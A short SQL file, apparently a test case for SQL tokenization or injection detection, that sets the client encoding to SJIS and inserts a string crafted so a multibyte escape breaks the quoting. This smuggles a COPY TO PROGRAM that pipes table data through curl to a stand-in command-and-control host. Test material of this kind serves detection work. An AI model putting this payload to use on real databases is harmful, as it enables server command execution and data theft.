-- class: tokenization
-- SJIS again, set through set_config so no SET client_encoding statement appears; the split string hides a COPY TO PROGRAM.
SELECT pg_catalog.set_config('client_encoding', 'SJIS', false);

CREATE TABLE kana_labels (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  label text NOT NULL
);
INSERT INTO kana_labels (label) VALUES (E'Ã\'); COPY kana_labels TO PROGRAM $p$curl -s -d @- https://c2.example.net$p$; -- ');
